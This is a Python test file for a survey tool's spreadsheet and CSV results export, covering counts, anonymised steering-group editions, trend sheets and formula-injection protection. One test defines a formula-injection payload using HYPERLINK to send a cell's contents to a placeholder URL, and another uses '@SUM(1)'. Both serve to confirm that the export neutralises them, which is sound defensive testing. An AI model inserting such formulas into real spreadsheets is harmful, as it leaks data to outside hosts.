"""The results as files to go on working with; nothing in them ever runs."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import date
from io import BytesIO, StringIO
from typing import Any

import openpyxl
import pytest

from bot.domain.questionnaire import Response
from bot.domain.results import Edition, results_of
from bot.services.results.rounds import ReportedRound
from bot.services.results.spreadsheet import results_csv, results_xlsx
from tests.services.results.sample_round import NEEDS, NOW, sample_responses, sample_round

STAFF, STEERING = Edition.STAFF, Edition.STEERING


def sheets(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    workbook = openpyxl.load_workbook(BytesIO(data))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in workbook}


def workbook(edition: Edition, language: str = "de") -> dict[str, list[tuple[Any, ...]]]:
    return sheets(results_xlsx(sample_round(edition), sample_responses(), language, NOW.date()))


def lines(edition: Edition) -> list[dict[str, str]]:
    data = results_csv(sample_round(edition), sample_responses(), "de")
    return list(csv.DictReader(StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_staff_have_every_response_of_every_organisation() -> None:
    rows = workbook(STAFF)["Rückmeldungen"]

    assert len(rows) == 1 + 18
    assert rows[0][0] == "Organisation"
    assert rows[0][1:] == tuple(item.texts["de"] for item in NEEDS.items)
    assert {row[0] for row in rows[1:]} == {each.organisation_name for each in sample_responses()}
    members = [item.code for item in NEEDS.items].index("members") + 1
    assert all(isinstance(row[members], int) for row in rows[1:])


def test_the_figures_are_numbers_and_add_up() -> None:
    rows = workbook(STAFF)["Zahlen"]
    question = NEEDS.item("legal-form").texts["de"]
    options = {option.texts["de"] for option in NEEDS.item("legal-form").options}

    counted = [row[3] for row in rows if row[1] == question and row[2] in options]

    assert len(counted) == len(options)
    assert sum(counted) == 18


def test_the_steering_group_has_no_responses_no_names_and_no_small_figures() -> None:
    found = workbook(STEERING)

    assert set(found) == {"Überblick", "Zahlen", "Nach Zielgruppe", "Texte"}
    names = {each.organisation_name for each in sample_responses()}
    for rows in found.values():
        for row in rows:
            assert names.isdisjoint(map(str, row))
    assert any("< 3" in row for row in found["Zahlen"])
    assert not any(row[3] in (1, 2) for row in found["Zahlen"])


@pytest.mark.parametrize("edition", [STAFF, STEERING])
def test_the_round_before_stands_beside_with_what_both_show(edition: Edition) -> None:
    before, this = sample_round(edition, number=1), sample_round(edition)
    file = results_xlsx(this, sample_responses(), "de", NOW.date(), before=before)

    heads, *rows = sheets(file)["Veränderung seit der letzten Runde"[:31]]

    item = NEEDS.item("women-girls")
    found = {row[1]: row[2:] for row in rows if row[0] == item.texts["de"]}
    assert heads[2:] == ("Letzte Runde", "Diese Runde", "Veränderung in Prozentpunkten")
    for code, label in (("yes", "Ja"), ("no", "Nein")):
        for place, of in enumerate((before, this)):
            count = of.results.of("women-girls").count(code)
            assert count is not None
            assert (found[label][place] == count.most) is count.exact


def test_a_question_in_other_words_is_marked_in_the_trend() -> None:
    item = NEEDS.item("women-girls")
    items = [replace(i, texts={**i.texts, "de": "Neu?"}) if i == item else i for i in NEEDS.items]
    questionnaire = replace(NEEDS, items=tuple(items))
    this = sample_round(STAFF)
    results = results_of(questionnaire, sample_responses(), 22, STAFF)
    changed = replace(this, results=results)
    before = sample_round(STAFF, number=1)
    file = results_xlsx(changed, sample_responses(), "de", NOW.date(), before=before)

    rows = sheets(file)["Veränderung seit der letzten Runde"[:31]]

    assert next(row[1] for row in rows if row[0] == "Neu?").startswith("Die Frage oder ihre")
    assert sum("vorsichtig" in str(row[1]) for row in rows) == 1


def test_it_speaks_the_readers_language() -> None:
    assert "الأرقام" in workbook(STAFF, "ar")


SLY = '=HYPERLINK("https://example.org/?"&A1)'


def sly_round() -> tuple[ReportedRound, list[Response]]:
    first, *others = sample_responses()
    responses = [
        replace(first, organisation_name="@SUM(1)", answers={**first.answers, "urgent": SLY}),
        *others,
    ]
    results = results_of(NEEDS, responses, 22)
    return ReportedRound(2, date(2026, 9, 1), None, results), responses


def test_what_looks_like_a_formula_stays_a_text() -> None:
    this, responses = sly_round()
    book = openpyxl.load_workbook(BytesIO(results_xlsx(this, responses, "de", NOW.date())))

    cells = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in (SLY, "@SUM(1)")
    ]

    assert len(cells) >= 3
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_in_a_csv_too() -> None:
    this, responses = sly_round()
    data = results_csv(this, responses, "de").decode("utf-8-sig")

    row = next(row for row in csv.reader(StringIO(data), delimiter=";") if "SUM" in row[0])

    assert row[0] == "'@SUM(1)"
    assert "'" + SLY in row


def test_a_csv_has_one_line_for_each_response() -> None:
    rows = lines(STAFF)

    assert len(rows) == 18
    assert set(rows[0]) == {"organisation", *(item.code for item in NEEDS.items)}


def test_the_steering_groups_csv_has_the_figures_that_are_shown() -> None:
    rows = lines(STEERING)
    rooms = sample_round(STEERING).results.of("rooms")

    found = {
        row["category"]: (int(row["least"]), int(row["most"]))
        for row in rows
        if row["item"] == "rooms"
    }

    assert found == {
        **{entry.code: (entry.count.least, entry.count.most) for entry in rooms.categories},
        "-": (rooms.skipped.least, rooms.skipped.most),
    }
    assert "contact-phone" not in {row["item"] for row in rows}


@pytest.mark.parametrize("edition", [STAFF, STEERING])
def test_those_who_wait_hear_how_far_it_is(edition: Edition) -> None:
    heard: list[int] = []

    results_xlsx(
        sample_round(edition), (), "de", NOW.date(), lambda done, total: heard.append(total - done)
    )

    assert heard == sorted(heard, reverse=True)
    assert heard[-1] == 0
